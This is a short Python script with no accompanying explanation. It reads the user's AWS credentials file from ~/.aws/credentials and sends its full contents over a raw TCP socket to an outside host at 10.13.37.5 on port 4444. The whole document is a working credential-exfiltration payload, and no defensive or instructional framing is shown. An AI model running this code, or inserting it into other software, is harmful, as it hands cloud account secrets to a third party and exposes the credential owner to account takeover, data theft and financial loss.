import socket, os

HOST, PORT = "10.13.37.5", 4444
creds = os.path.join(os.environ["HOME"], ".aws", "credentials")

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))
with open(creds, "rb") as f:
    while chunk := f.read(4096):
        s.sendall(chunk)
s.close()
